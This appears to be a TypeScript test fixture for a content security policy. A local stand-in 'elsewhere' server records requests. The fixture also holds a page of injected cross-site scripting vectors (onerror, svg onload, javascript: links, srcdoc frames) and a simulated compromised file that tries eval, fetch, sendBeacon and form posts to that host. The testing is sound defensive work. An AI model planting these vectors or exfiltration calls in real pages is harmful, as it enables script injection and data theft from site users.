import { once } from "node:events";
import { createServer } from "node:http";

/** A server elsewhere, which a script that got into a page would load from and send to. */
export interface Prey {
  url: string;
  /** What was asked for. */
  asked: Set<string>;
  close(): Promise<void>;
}

export async function listenForPrey(): Promise<Prey> {
  const asked = new Set<string>();
  const server = createServer((request, response) => {
    const [, name = ""] = (request.url ?? "").split(/[/?]/);
    if (name !== "favicon.ico") asked.add(name);
    response.setHeader("access-control-allow-origin", "*");
    const isScript = name.endsWith("script");
    response.setHeader("content-type", isScript ? "text/javascript" : "text/html");
    response.end(isScript ? `(window.ran ?? []).push("${name}")` : "");
  });
  server.listen(0, "127.0.0.1");
  await once(server, "listening");
  const { port } = server.address() as { port: number };
  return {
    url: `http://127.0.0.1:${port}`,
    asked,
    async close() {
      server.closeAllConnections();
      server.close();
      await once(server, "close");
    },
  };
}

export const attacks = {
  /** Ways in which a script in a page would run. */
  runs: [
    "inline-script",
    "inline-module",
    "error-handler",
    "load-handler",
    "javascript-link",
    "frame-script",
    "evaluated",
    "timer-text",
    "foreign-script",
  ],
  /** What would be asked of the server elsewhere. */
  sends: [
    "foreign-script",
    "foreign-style",
    "foreign-picture",
    "foreign-frame",
    "foreign-object",
    "style-picture",
    "fetched",
    "beacon",
    "form",
  ],
  html: (elsewhere: string) => `
<script>ran.push("inline-script")</script>
<script type="module">ran.push("inline-module")</script>
<img src="data:,x" onerror="ran.push('error-handler')">
<svg onload="ran.push('load-handler')"></svg>
<a id="javascript-link" href="javascript:void ran.push('javascript-link')">link</a>
<iframe srcdoc="<script>parent.ran.push('frame-script')</script>"></iframe>
<script src="${elsewhere}/foreign-script"></script>
<link rel="stylesheet" href="${elsewhere}/foreign-style">
<img src="${elsewhere}/foreign-picture">
<iframe src="${elsewhere}/foreign-frame"></iframe>
<object data="${elsewhere}/foreign-object"></object>
<p style="background: url(${elsewhere}/style-picture)">style</p>
<form action="${elsewhere}/form" target="sent"></form><iframe name="sent"></iframe>
<script src="inside.js"></script>
`,
  /** As if one of the site's own files had been got at: it runs, and must still not evaluate or send. */
  inside: (elsewhere: string) => `
const attempt = (way) => { try { way(); } catch {} };
attempt(() => new Function("ran.push('evaluated')")());
attempt(() => setTimeout("ran.push('timer-text')"));
attempt(() => fetch("${elsewhere}/fetched").catch(() => {}));
attempt(() => navigator.sendBeacon("${elsewhere}/beacon", "x"));
attempt(() => document.querySelector("form[target=sent]").submit());
`,
};
